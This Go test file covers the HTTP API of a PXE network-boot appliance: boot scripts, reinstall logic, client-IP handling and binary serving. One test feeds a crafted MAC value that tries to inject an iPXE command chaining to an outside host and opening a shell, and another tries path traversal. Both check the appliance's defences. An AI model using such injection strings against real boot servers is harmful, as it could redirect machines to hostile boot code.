package httpapi

import (
	"bytes"
	"fmt"
	"net/http"
	"net/netip"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/prometheus/client_golang/prometheus/testutil"

	"github.com/pxe-pilot/pxe-pilot/assets"
	"github.com/pxe-pilot/pxe-pilot/store"
)

func TestNewHandlerRefusesIncompleteConfig(t *testing.T) {
	e := newEnv(t, nil)
	for name, mutate := range map[string]func(*Config){
		"Store":   func(c *Config) { c.Store = nil },
		"Metrics": func(c *Config) { c.Metrics = nil },
		"BaseURL": func(c *Config) { c.BaseURL = "" },
	} {
		cfg := e.cfg
		mutate(&cfg)
		if _, err := NewHandler(cfg); err == nil || !strings.Contains(err.Error(), name) {
			t.Errorf("NewHandler without %s: err = %v, want one naming %s", name, err, name)
		}
	}
}

func TestChain(t *testing.T) {
	// A trailing slash on PXE_BASE_URL must not give "//boot": some web
	// servers in front of the appliance answer 404 or redirect for it.
	e := newEnv(t, func(c *Config) { c.BaseURL = testBaseURL + "/" })
	for i := 1; i <= 3; i++ {
		body := wantScript(t, e.do("GET", "/chain", ""), http.StatusOK)
		if got := testutil.ToFloat64(e.m.ChainRequests); got != float64(i) {
			t.Fatalf("pxe_pilot_chain_requests_total = %v after %d requests", got, i)
		}
		if i > 1 {
			continue
		}
		want := testBaseURL + "/boot?mac=${mac}&ip=${ip}&uuid=${uuid}&platform=${platform:uristring}"
		if !strings.Contains(body, "chain --autofree "+want) {
			t.Errorf("chain script does not chain to %s:\n%s", want, body)
		}
		// String settings are URI-encoded by iPXE; the typed ones (mac, ip,
		// uuid) must not be: Debian's iPXE formats ${mac:uristring} as raw
		// bytes (measured in the QEMU end-to-end test).
		for _, f := range []string{"platform", "buildarch", "serial", "manufacturer", "product"} {
			if !strings.Contains(body, "&"+f+"=${"+f+":uristring}") {
				t.Errorf("chain script does not pass %s as ${%s:uristring}:\n%s", f, f, body)
			}
		}
		for _, f := range []string{"mac", "ip", "uuid"} {
			if strings.Contains(body, "${"+f+":uristring}") {
				t.Errorf("chain script formats the typed setting %s with :uristring:\n%s", f, body)
			}
		}
		if strings.Contains(body, "//boot") {
			t.Errorf("chain script has a doubled slash:\n%s", body)
		}
		// A failed /boot (non-2xx, unreachable) must fall through to the
		// firmware's next boot device, not to an iPXE shell.
		if !strings.Contains(body, "|| goto failed") || !strings.HasSuffix(body,
			"echo PXE Pilot: leaving iPXE for the next boot device\nexit 1\n") || strings.Contains(body, "exit 0") {
			t.Errorf("chain script does not end in an exit fallback:\n%s", body)
		}
	}
}

func TestBootCreatesAndUpdatesNode(t *testing.T) {
	e := newEnv(t, nil)
	long := strings.Repeat("P", 200)
	q := url.Values{
		"mac":          {"52-54-00-AA-BB-01"},
		"ip":           {"198.51.100.21"},
		"platform":     {"efi"},
		"buildarch":    {"x86_64"},
		"uuid":         {"0d0c0b0a-0000-4000-8000-000000000001"},
		"serial":       {"  SN 42\x01\x7f  "}, // SMBIOS padding and control bytes
		"manufacturer": {"QEMU"},
		"product":      {long},
	}
	body := wantScript(t, e.do("GET", "/boot?"+q.Encode(), ""), http.StatusOK)
	if !strings.Contains(body, "\nexit 1\n") {
		t.Errorf("UEFI node without reinstall did not get exit 1:\n%s", body)
	}
	if cc := e.do("GET", "/boot?"+q.Encode(), "").Header().Get("Cache-Control"); cc != "no-store" {
		t.Errorf("Cache-Control %q, want no-store: a cached script would replay a one-shot reinstall", cc)
	}

	n := e.node("52:54:00:aa:bb:01")
	if n.MAC != "52:54:00:aa:bb:01" || n.State != store.StateLocal || n.Reinstall {
		t.Errorf("node = %+v, want a local node 52:54:00:aa:bb:01", n)
	}
	if n.BootCount != 2 || n.LastIP != "198.51.100.21" {
		t.Errorf("boot_count %d last_ip %q, want 2 and 198.51.100.21", n.BootCount, n.LastIP)
	}
	wantFacts := store.Facts{Platform: "efi", BuildArch: "x86_64", UUID: "0d0c0b0a-0000-4000-8000-000000000001",
		Serial: "SN 42", Manufacturer: "QEMU", Product: long[:128]}
	if n.Facts != wantFacts {
		t.Errorf("facts = %+v\nwant    %+v", n.Facts, wantFacts)
	}
	first := *n.LastSeen

	// A later boot from another address, by an iPXE that reports no
	// serial: last_seen and last_ip move, the serial is kept.
	q.Set("ip", "198.51.100.22")
	q.Del("serial")
	q.Set("mac", "5254.00aa.bb01")
	wantScript(t, e.do("GET", "/boot?"+q.Encode(), ""), http.StatusOK)
	n = e.node("52:54:00:aa:bb:01")
	if n.BootCount != 3 || n.LastIP != "198.51.100.22" || n.Facts.Serial != "SN 42" || !n.LastSeen.After(first) {
		t.Errorf("after a third boot: %+v", n)
	}
	if n.LastSeen.Location().String() != "UTC" {
		t.Errorf("last_seen %v is not UTC", n.LastSeen)
	}

	ev, err := e.st.Events(n.MAC)
	if err != nil {
		t.Fatal(err)
	}
	if len(ev) != 3 || ev[0].IP != "198.51.100.22" || ev[2].IP != "198.51.100.21" {
		t.Fatalf("events = %+v, want 3, newest first", ev)
	}
	for _, x := range ev {
		if x.Decision != store.DecisionLocal || !strings.Contains(x.Reason, "UEFI") {
			t.Errorf("event %+v: want a local decision explained by UEFI", x)
		}
	}
	if got := testutil.ToFloat64(e.m.BootRequests.WithLabelValues("local")); got != 3 {
		t.Errorf("boot_requests_total{decision=local} = %v, want 3", got)
	}
}

func TestBootBadMAC(t *testing.T) {
	e := newEnv(t, nil)
	for i, raw := range []string{
		"",                  // no mac parameter at all
		"${mac}",            // an iPXE that did not expand the variable
		"52:54:00:12:34",    // five octets
		"52:54:00:12:34:5g", // not hex
		"52:54-00:12:34:56", // mixed separators
		"02:00:00:00:00:00:00:01",
	} {
		target := "/boot?platform=pcbios"
		if raw != "" {
			target += "&mac=" + url.QueryEscape(raw)
		}
		body := wantScript(t, e.do("GET", target, ""), http.StatusBadRequest)
		if !strings.Contains(body, "no usable MAC address") || !strings.HasSuffix(body, "\nexit 1\n") {
			t.Errorf("mac=%q: error script does not explain and exit:\n%s", raw, body)
		}
		if got := testutil.ToFloat64(e.m.BootRequests.WithLabelValues("error")); got != float64(i+1) {
			t.Errorf("boot_requests_total{decision=error} = %v after %d bad requests", got, i+1)
		}
	}
	if nodes, _ := e.st.List(); len(nodes) != 0 {
		t.Errorf("bad boots created nodes: %+v", nodes)
	}
}

// The error script echoes the bad MAC back. iPXE expands ${…} in an echo
// line and gives ||, && and # their meaning, so nothing the client sent may
// reach the script with those characters intact, even when it contains the
// text of the appliance's own hint line.
func TestBootBadMACCannotInjectIntoErrorScript(t *testing.T) {
	e := newEnv(t, nil)
	evil := "x/boot?mac=${mac}${net0/ip} ; chain http://203.0.113.66/ || shell #&&'"
	body := wantScript(t, e.do("GET", "/boot?mac="+url.QueryEscape(evil), ""), http.StatusBadRequest)
	for _, line := range strings.Split(body, "\n") {
		if !strings.HasPrefix(line, "echo ") {
			continue
		}
		rest := strings.ReplaceAll(line, "${mac}", "")
		for _, bad := range []string{"${", "|", "&", " ; ", "#", "\"", "'"} {
			if strings.Contains(rest, bad) {
				t.Errorf("echo line keeps %q from the client's input: %s", bad, line)
			}
		}
	}
	if !strings.Contains(body, "iPXE must call "+testBaseURL+"/boot?mac=${mac}\n") {
		t.Errorf("the hint line lost its ${mac}:\n%s", body)
	}
}

func TestBootReinstallIsOneShot(t *testing.T) {
	for _, platform := range []string{"pcbios", "efi"} {
		t.Run(platform, func(t *testing.T) {
			e := newEnv(t, nil)
			const mac = "52:54:00:aa:bb:02"
			wantCode(t, e.do("POST", "/nodes/"+mac+"/reinstall", ""), http.StatusOK)
			if n := e.node(mac); n.State != store.StateReinstall || !n.Reinstall {
				t.Fatalf("after POST reinstall: %+v", n)
			}

			body := wantScript(t, e.boot(mac, platform), http.StatusOK)
			for _, want := range []string{
				"kernel http://198.51.100.10/ubuntu/52:54:00:aa:bb:02/vmlinuz initrd=initrd autoinstall " +
					"ds=nocloud-net;s=http://198.51.100.10/autoinstall/52-54-00-aa-bb-02/${uuid}/ console=ttyS0,115200n8 || goto failed\n",
				"initrd --name initrd http://198.51.100.10/ubuntu/initrd?ip=203.0.113.7 || goto failed\n",
				"boot || goto failed\n",
			} {
				if !strings.Contains(body, want) {
					t.Errorf("reinstall script lacks %q:\n%s", want, body)
				}
			}
			n := e.node(mac)
			if n.State != store.StateInstalling || n.Reinstall || n.InstallCount != 1 {
				t.Errorf("after the installer was served: %+v, want installing, flag consumed", n)
			}

			// Every later boot goes local, even if the installer never
			// reports back: a machine must never reinstall in a loop.
			for i := 0; i < 2; i++ {
				body = wantScript(t, e.boot(mac, platform), http.StatusOK)
				if strings.Contains(body, "kernel ") {
					t.Fatalf("boot %d after the installer served it again:\n%s", i+2, body)
				}
			}
			if n := e.node(mac); n.State != store.StateInstalling || n.InstallCount != 1 {
				t.Errorf("after local boots: %+v", n)
			}

			w := e.do("POST", "/installed?mac="+strings.ToUpper(mac), "")
			wantCode(t, w, http.StatusOK)
			if n := jsonBody[store.Node](t, w); n.State != store.StateInstalled {
				t.Errorf("POST /installed answered %+v", n)
			}
			if got := testutil.ToFloat64(e.m.InstallReports.WithLabelValues("installed")); got != 1 {
				t.Errorf("install_reports_total{result=installed} = %v", got)
			}
			wantScript(t, e.boot(mac, platform), http.StatusOK)

			ev, err := e.st.Events(mustMAC(t, mac))
			if err != nil {
				t.Fatal(err)
			}
			var decisions []string
			for _, x := range ev {
				decisions = append(decisions, x.Type+x.Decision) // a boot has no Type, a report no Decision
			}
			if want := []string{"local", "installed", "local", "local", "reinstall"}; !slices.Equal(decisions, want) {
				t.Errorf("events newest first = %v, want %v", decisions, want)
			}
			if r, l := testutil.ToFloat64(e.m.BootRequests.WithLabelValues("reinstall")),
				testutil.ToFloat64(e.m.BootRequests.WithLabelValues("local")); r != 1 || l != 3 {
				t.Errorf("boot_requests_total reinstall=%v local=%v, want 1 and 3", r, l)
			}
		})
	}
}

// A machine whose NIC ROM retries, or two NICs of one box sharing a
// reported MAC, can send several /boot requests at once; the installer
// must still be served exactly once.
func TestBootReinstallOneShotUnderConcurrency(t *testing.T) {
	e := newEnv(t, nil)
	const mac = "52:54:00:aa:bb:0c"
	wantCode(t, e.do("POST", "/nodes/"+mac+"/reinstall", ""), http.StatusOK)
	const n = 12
	bodies := make(chan string, n)
	codes := make(chan int, n)
	var wg sync.WaitGroup
	for i := 0; i < n; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			w := e.boot(mac, "efi")
			codes <- w.Code
			bodies <- w.Body.String()
		}()
	}
	wg.Wait()
	close(codes)
	close(bodies)
	for c := range codes {
		if c != http.StatusOK {
			t.Errorf("a concurrent boot got status %d", c)
		}
	}
	installers := 0
	for b := range bodies {
		if strings.Contains(b, "\nkernel ") {
			installers++
		}
	}
	if installers != 1 {
		t.Errorf("%d of %d concurrent boots got the installer, want exactly 1", installers, n)
	}
	if node := e.node(mac); node.InstallCount != 1 || node.BootCount != n || node.State != store.StateInstalling {
		t.Errorf("after %d concurrent boots: %+v", n, node)
	}
}

func TestBootReinstallMisconfiguredKeepsFlag(t *testing.T) {
	for _, tc := range []struct {
		name    string
		boot    BootConfig
		missing []string
	}{
		{"all unset", BootConfig{}, []string{"PXE_UBUNTU_KERNEL_URL", "PXE_UBUNTU_INITRD_URL", "PXE_AUTOINSTALL_URL"}},
		{"initrd unset", BootConfig{KernelURL: fullBoot.KernelURL, AutoinstallURL: fullBoot.AutoinstallURL},
			[]string{"PXE_UBUNTU_INITRD_URL"}},
		{"autoinstall unset", BootConfig{KernelURL: fullBoot.KernelURL, InitrdURL: fullBoot.InitrdURL},
			[]string{"PXE_AUTOINSTALL_URL"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			e := newEnv(t, func(c *Config) { c.Boot = tc.boot })
			const mac = "52:54:00:aa:bb:03"
			wantCode(t, e.do("POST", "/nodes/"+mac+"/reinstall", ""), http.StatusOK)
			for i := 1; i <= 2; i++ {
				// 200, not 5xx: iPXE runs a script only after a 2xx, and the
				// person at the console must read why nothing installs.
				body := wantScript(t, e.boot(mac, "pcbios"), http.StatusOK)
				for _, m := range tc.missing {
					if !strings.Contains(body, m) {
						t.Errorf("error script does not name %s:\n%s", m, body)
					}
				}
				if !strings.Contains(body, "reinstall stays pending") || !strings.HasSuffix(body, "\nexit 1\n") ||
					strings.Contains(body, "kernel ") {
					t.Errorf("boot %d: not an explaining error script:\n%s", i, body)
				}
				n := e.node(mac)
				if n.State != store.StateReinstall || !n.Reinstall || n.InstallCount != 0 || n.BootCount != uint64(i) {
					t.Errorf("boot %d: %+v, want the reinstall flag kept", i, n)
				}
			}
			ev, _ := e.st.Events(mustMAC(t, mac))
			if len(ev) != 2 || ev[0].Decision != store.DecisionError || !strings.Contains(ev[0].Reason, tc.missing[0]) {
				t.Errorf("events = %+v, want error decisions naming %s", ev, tc.missing[0])
			}
			if got := testutil.ToFloat64(e.m.BootRequests.WithLabelValues("error")); got != 2 {
				t.Errorf("boot_requests_total{decision=error} = %v, want 2", got)
			}
		})
	}
}

func TestBootLocalBootModes(t *testing.T) {
	const (
		sanboot = "\nsanboot --no-describe --drive 0x80\n"
		exit1   = "\nexit 1\n"
	)
	for _, tc := range []struct {
		mode     LocalBoot
		platform string
		want     string
	}{
		{LocalBootAuto, "pcbios", sanboot},
		{LocalBootAuto, "efi", exit1},
		{LocalBootAuto, "", sanboot}, // an iPXE too old to report ${platform} is BIOS
		{"", "efi", exit1},           // unset means auto
		{"", "pcbios", sanboot},
		{LocalBootSanboot, "pcbios", sanboot},
		{LocalBootSanboot, "efi", sanboot},
		{LocalBootExit, "pcbios", exit1},
		{LocalBootExit, "efi", exit1},
	} {
		t.Run(fmt.Sprintf("%s/%s", tc.mode, tc.platform), func(t *testing.T) {
			e := newEnv(t, func(c *Config) { c.Boot.LocalBoot = tc.mode })
			body := wantScript(t, e.boot("52:54:00:aa:bb:04", tc.platform), http.StatusOK)
			if !strings.HasSuffix(body, tc.want) {
				t.Errorf("PXE_LOCAL_BOOT=%q platform=%q: script does not end in %q:\n%s", tc.mode, tc.platform, tc.want, body)
			}
		})
	}
}

func TestBootUsesNodeLocalBootScript(t *testing.T) {
	e := newEnv(t, nil)
	const mac = "52:54:00:aa:bb:05"
	wantCode(t, e.do("PUT", "/nodes/"+mac+"/local-boot-config", `{"script": "sanboot  --no-describe --drive 0x81"}`), http.StatusOK)
	for _, p := range []string{"efi", "pcbios"} {
		if body := wantScript(t, e.boot(mac, p), http.StatusOK); !strings.HasSuffix(body, "\nsanboot --no-describe --drive 0x81\n") {
			t.Errorf("platform %s: node's own script not used:\n%s", p, body)
		}
	}
	ev, _ := e.st.Events(mustMAC(t, mac))
	if len(ev) == 0 || ev[0].Reason != "node's own local-boot script" {
		t.Errorf("events = %+v", ev)
	}
	wantCode(t, e.do("DELETE", "/nodes/"+mac+"/local-boot-config", ""), http.StatusOK)
	if body := wantScript(t, e.boot(mac, "efi"), http.StatusOK); !strings.HasSuffix(body, "\nexit 1\n") {
		t.Errorf("after DELETE the platform default is not back:\n%s", body)
	}
}

func TestBootClientIP(t *testing.T) {
	proxies := []netip.Prefix{netip.MustParsePrefix("203.0.113.0/28")}
	for _, tc := range []struct {
		name    string
		trusted []netip.Prefix
		query   string // ip= value, "" for none
		xff     []string
		want    string
	}{
		{"connection", nil, "", nil, "203.0.113.7"},
		{"query beats connection", nil, "198.51.100.50", nil, "198.51.100.50"},
		{"query v4-mapped is unmapped", nil, "::ffff:198.51.100.51", nil, "198.51.100.51"},
		{"query unspecified ignored", nil, "0.0.0.0", nil, "203.0.113.7"},
		{"query not an address ignored", nil, "${ip}", nil, "203.0.113.7"},
		{"query with a zone ignored", nil, "fe80::1%" + strings.Repeat("z", 4000), nil, "203.0.113.7"},
		{"query ipv6", nil, "2001:db8::5", nil, "2001:db8::5"},
		{"XFF from an untrusted peer ignored", nil, "", []string{"198.51.100.60"}, "203.0.113.7"},
		{"XFF from a peer outside the trusted set ignored",
			[]netip.Prefix{netip.MustParsePrefix("203.0.113.128/25")}, "", []string{"198.51.100.60"}, "203.0.113.7"},
		{"XFF from a trusted proxy", proxies, "", []string{"198.51.100.61"}, "198.51.100.61"},
		{"XFF skips trusted hops", proxies, "", []string{"198.51.100.62, 203.0.113.9"}, "198.51.100.62"},
		{"XFF right-most untrusted wins over a spoofed left part", proxies, "",
			[]string{"198.51.100.99, 198.51.100.63"}, "198.51.100.63"},
		{"XFF split over two headers", proxies, "", []string{"198.51.100.99", "198.51.100.64, 203.0.113.10"}, "198.51.100.64"},
		{"XFF garbage stops the walk", proxies, "", []string{"198.51.100.99, bogus, 203.0.113.10"}, "203.0.113.10"},
		{"XFF all trusted", proxies, "", []string{"203.0.113.10"}, "203.0.113.10"},
		{"trusted proxy, no XFF", proxies, "", nil, "203.0.113.7"},
		{"query beats XFF", proxies, "198.51.100.70", []string{"198.51.100.61"}, "198.51.100.70"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			e := newEnv(t, func(c *Config) { c.TrustedProxies = tc.trusted })
			target := "/boot?mac=52:54:00:aa:bb:06&platform=pcbios"
			if tc.query != "" {
				target += "&ip=" + url.QueryEscape(tc.query)
			}
			var hdr []string
			for _, h := range tc.xff {
				hdr = append(hdr, "X-Forwarded-For", h)
			}
			wantScript(t, e.do("GET", target, "", hdr...), http.StatusOK)
			n := e.node("52:54:00:aa:bb:06")
			if n.LastIP != tc.want {
				t.Errorf("last_ip = %q, want %q", n.LastIP, tc.want)
			}
			if ev, _ := e.st.Events(n.MAC); len(ev) != 1 || ev[0].IP != tc.want {
				t.Errorf("event = %+v, want ip %q", ev, tc.want)
			}
		})
	}
}

// The ${ip} an installer URL receives is the address the boot request
// established, the same rule as last_ip.
func TestBootSubstitutesRequestIP(t *testing.T) {
	e := newEnv(t, func(c *Config) {
		c.TrustedProxies = []netip.Prefix{netip.MustParsePrefix("203.0.113.7/32")}
	})
	const mac = "52:54:00:aa:bb:07"
	wantCode(t, e.do("POST", "/nodes/"+mac+"/reinstall", ""), http.StatusOK)
	body := wantScript(t, e.do("GET", "/boot?mac="+mac, "", "X-Forwarded-For", "198.51.100.44"), http.StatusOK)
	if !strings.Contains(body, "initrd?ip=198.51.100.44 ") {
		t.Errorf("${ip} is not the forwarded client address:\n%s", body)
	}
}

func TestInstalled(t *testing.T) {
	e := newEnv(t, nil)
	wantJSONError(t, e.do("POST", "/installed?mac=52:54:00:aa:bb:08", ""), http.StatusNotFound, "52:54:00:aa:bb:08")
	wantJSONError(t, e.do("POST", "/installed?mac=nope", ""), http.StatusBadRequest, "nope")
	wantJSONError(t, e.do("POST", "/installed", ""), http.StatusBadRequest, "not a MAC address")
	wantJSONError(t, e.do("GET", "/installed?mac=52:54:00:aa:bb:08", ""), http.StatusMethodNotAllowed)
	if nodes, _ := e.st.List(); len(nodes) != 0 {
		t.Errorf("/installed created nodes: %+v", nodes)
	}
	// A node that was installed by other means (reinstall requested, the
	// installer came from a USB stick) reports too.
	wantCode(t, e.do("POST", "/nodes/525400aabb08/reinstall", ""), http.StatusOK)
	w := e.do("POST", "/installed?mac=52-54-00-AA-BB-08", "")
	wantCode(t, w, http.StatusOK)
	if n := jsonBody[store.Node](t, w); n.State != store.StateInstalled || n.Reinstall || n.MAC != "52:54:00:aa:bb:08" {
		t.Errorf("answered %+v", n)
	}
}

func loadDebianBinaries(t testing.TB) *assets.Binaries {
	t.Helper()
	b, err := assets.LoadBinaries(assets.Options{SystemDir: assets.DebianDir, NoEmbedded: true})
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{assets.UndionlyKPXE, assets.IPXEEFI, assets.SNPOnlyEFI} {
		if _, ok := b.Get(name); !ok {
			t.Fatalf("%s not found in %s: install Debian's ipxe package (apt-get install ipxe)", name, assets.DebianDir)
		}
	}
	return b
}

func TestIPXEBinaries(t *testing.T) {
	bins := loadDebianBinaries(t)
	e := newEnv(t, func(c *Config) { c.Binaries = bins })
	for _, name := range []string{assets.UndionlyKPXE, assets.IPXEEFI, assets.SNPOnlyEFI} {
		bin, _ := bins.Get(name)
		t.Run(name, func(t *testing.T) {
			w := e.do("GET", "/ipxe/"+name, "")
			wantCode(t, w, http.StatusOK)
			if !bytes.Equal(w.Body.Bytes(), bin.Data) {
				t.Fatalf("served %d bytes that differ from the %d bytes of %s", w.Body.Len(), len(bin.Data), bin.Source)
			}
			if got := w.Header().Get("Content-Length"); got != strconv.Itoa(len(bin.Data)) {
				t.Errorf("Content-Length %q, want %d", got, len(bin.Data))
			}
			if ct := w.Header().Get("Content-Type"); ct != "application/octet-stream" {
				t.Errorf("Content-Type %q", ct)
			}
			etag := w.Header().Get("ETag")
			if etag != `"`+bin.SHA256+`"` {
				t.Errorf("ETag %q, want the SHA-256 %q", etag, bin.SHA256)
			}

			// UEFI HTTP Boot firmware resumes a broken download with a Range.
			w = e.do("GET", "/ipxe/"+name, "", "Range", "bytes=100-4195")
			wantCode(t, w, http.StatusPartialContent)
			if !bytes.Equal(w.Body.Bytes(), bin.Data[100:4196]) {
				t.Errorf("Range bytes=100-4195 served %d wrong bytes", w.Body.Len())
			}
			if cr, want := w.Header().Get("Content-Range"), fmt.Sprintf("bytes 100-4195/%d", len(bin.Data)); cr != want {
				t.Errorf("Content-Range %q, want %q", cr, want)
			}
			w = e.do("GET", "/ipxe/"+name, "", "Range", "bytes=-10")
			wantCode(t, w, http.StatusPartialContent)
			if !bytes.Equal(w.Body.Bytes(), bin.Data[len(bin.Data)-10:]) {
				t.Errorf("suffix Range bytes=-10 served wrong bytes")
			}
			w = e.do("GET", "/ipxe/"+name, "", "Range", fmt.Sprintf("bytes=%d-", len(bin.Data)+10))
			wantCode(t, w, http.StatusRequestedRangeNotSatisfiable)

			wantCode(t, e.do("GET", "/ipxe/"+name, "", "If-None-Match", etag), http.StatusNotModified)
			// UEFI HTTP Boot asks HEAD first for the size (OVMF stalls
			// its download after a 405 here).
			w = e.do("HEAD", "/ipxe/"+name, "")
			wantCode(t, w, http.StatusOK)
			if cl := w.Header().Get("Content-Length"); cl != fmt.Sprint(len(bin.Data)) || w.Body.Len() != 0 {
				t.Errorf("HEAD %s: Content-Length %q, body %d bytes; want %d and no body", name, cl, w.Body.Len(), len(bin.Data))
			}
		})
		if got := testutil.ToFloat64(e.m.AssetRequests.WithLabelValues(name, "served")); got != 6 {
			t.Errorf("asset_requests_total{file=%s,result=served} = %v, want 6", name, got)
		}
	}

	// ipxe-arm64.efi is a known name Debian does not ship; pxelinux.0 is a
	// name the appliance never serves. Both are 404 JSON naming the file,
	// and the metric label stays within the known names plus "other".
	wantJSONError(t, e.do("GET", "/ipxe/"+assets.ARM64EFI, ""), http.StatusNotFound, assets.ARM64EFI)
	for _, name := range []string{"pxelinux.0", "ipxe.efi.bak", "IPXE.EFI"} {
		wantJSONError(t, e.do("GET", "/ipxe/"+name, ""), http.StatusNotFound, "no iPXE binary named", name)
	}
	// A path that leaves /ipxe/ never reaches the file handler.
	wantJSONError(t, e.do("GET", "/ipxe/%2e%2e%2fgo.mod", ""), http.StatusNotFound)
	if got := testutil.ToFloat64(e.m.AssetRequests.WithLabelValues("other", "missing")); got != 3 {
		t.Errorf("asset_requests_total{file=other,result=missing} = %v, want 3", got)
	}
	if n := testutil.CollectAndCount(e.m.AssetRequests); n != 5 {
		t.Errorf("asset_requests_total has %d series, want 5 (3 served, arm64 missing, other missing)", n)
	}
	wantJSONError(t, e.do("GET", "/ipxe/", ""), http.StatusNotFound)

	noBins := newEnv(t, nil)
	wantJSONError(t, noBins.do("GET", "/ipxe/"+assets.IPXEEFI, ""), http.StatusNotFound, assets.IPXEEFI)
}

func TestHealth(t *testing.T) {
	e := newEnv(t, nil)
	w := e.do("GET", "/health", "")
	wantCode(t, w, http.StatusOK)
	if v := jsonBody[map[string]string](t, w); len(v) != 1 || v["status"] != "OK" {
		t.Errorf("health = %v, want {\"status\":\"OK\"}", v)
	}
	if err := e.st.Close(); err != nil {
		t.Fatal(err)
	}
	w = e.do("GET", "/health", "")
	wantCode(t, w, http.StatusServiceUnavailable)
	if v := jsonBody[map[string]string](t, w); v["status"] == "OK" || !strings.Contains(v["error"], "closed") {
		t.Errorf("health with a closed store = %v, want a reason naming the closed store", v)
	}
	if got := testutil.ToFloat64(e.m.StoreErrors.WithLabelValues("ping")); got != 1 {
		t.Errorf("store_errors_total{op=ping} = %v", got)
	}
	// A boot while the store is down still gets a script that exits to
	// the next boot device, and the failure is counted.
	body := wantScript(t, e.boot("52:54:00:aa:bb:09", "efi"), http.StatusInternalServerError)
	if !strings.HasSuffix(body, "\nexit 1\n") {
		t.Errorf("store-down boot script:\n%s", body)
	}
	if got := testutil.ToFloat64(e.m.StoreErrors.WithLabelValues("record_boot")); got != 1 {
		t.Errorf("store_errors_total{op=record_boot} = %v", got)
	}
	wantJSONError(t, e.do("POST", "/nodes/52:54:00:aa:bb:09/reinstall", ""), http.StatusServiceUnavailable, "nothing was changed")
}

func TestMetricsEndpoint(t *testing.T) {
	e := newEnv(t, nil)
	e.boot("52:54:00:aa:bb:0a", "efi")
	e.do("GET", "/no/such/path/52:54:00:aa:bb:0a", "")
	e.do("GET", "/nodes/52:54:00:aa:bb:0a", "")
	w := e.do("GET", "/metrics", "")
	wantCode(t, w, http.StatusOK)
	body := w.Body.String()
	for _, want := range []string{
		`pxe_pilot_boot_requests_total{decision="local"} 1`,
		`pxe_pilot_boot_requests_total{decision="reinstall"} 0`,
		`pxe_pilot_http_request_duration_seconds_count{code="200",route="/boot"} 1`,
		`pxe_pilot_http_request_duration_seconds_count{code="404",route="not_found"} 1`,
		`pxe_pilot_http_request_duration_seconds_count{code="200",route="/nodes/:mac"} 1`,
		`pxe_pilot_build_info{`,
	} {
		if !strings.Contains(body, want) {
			t.Errorf("/metrics lacks %s", want)
		}
	}
	if strings.Contains(body, "/no/such/path") || strings.Contains(body, "aa:bb:0a") {
		t.Errorf("/metrics carries a raw request path or MAC as a label value")
	}
}

func TestUnknownRouteAndWrongMethod(t *testing.T) {
	e := newEnv(t, nil)
	wantJSONError(t, e.do("GET", "/nope", ""), http.StatusNotFound, "no such endpoint")
	wantJSONError(t, e.do("GET", "/nodes/52:54:00:aa:bb:0b/nope", ""), http.StatusNotFound)
	for _, tc := range []struct{ method, path, allow string }{
		{"POST", "/boot", "GET, OPTIONS"},
		{"PUT", "/chain", "GET, OPTIONS"},
		{"DELETE", "/health", "GET, OPTIONS"},
		{"POST", "/nodes", "GET, OPTIONS"},
		{"PUT", "/nodes/52:54:00:aa:bb:0b/reinstall", "DELETE, OPTIONS, POST"},
		{"POST", "/nodes/52:54:00:aa:bb:0b/local-boot-config", "DELETE, OPTIONS, PUT"},
	} {
		w := e.do(tc.method, tc.path, "")
		wantJSONError(t, w, http.StatusMethodNotAllowed, "method not allowed")
		if got := w.Header().Get("Allow"); got != tc.allow {
			t.Errorf("%s %s: Allow %q, want %q", tc.method, tc.path, got, tc.allow)
		}
	}
	if nodes, _ := e.st.List(); len(nodes) != 0 {
		t.Errorf("405s created nodes: %+v", nodes)
	}
}
